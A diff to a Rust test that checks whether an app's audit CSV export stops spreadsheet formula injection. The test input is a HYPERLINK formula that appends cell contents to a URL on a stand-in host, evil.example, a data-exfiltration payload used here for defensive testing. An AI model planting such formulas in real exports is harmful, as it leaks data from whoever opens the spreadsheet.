@@ -96,7 +96,7 @@ async fn a_request_id_cannot_write_into_the_log() {
 async fn no_cell_of_the_audit_export_runs_as_a_formula() {
     let app = TestApp::spawn().await;
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
-    let actor = linli::app::access::audit::Actor { id: None, label: evil.into(), role: String::new(), ip: "-".into() };
+    let actor = linli::app::access::audit::Actor::system(evil, "-");
     app.app.note_export(&actor, "signin.failure", evil, json!({})).await.unwrap();
     let mut admin = signed_in(&app, "admin", "system_admin", "141102").await;
     let (status, _, bytes) = admin.get_bytes("/admin/audit.csv").await;
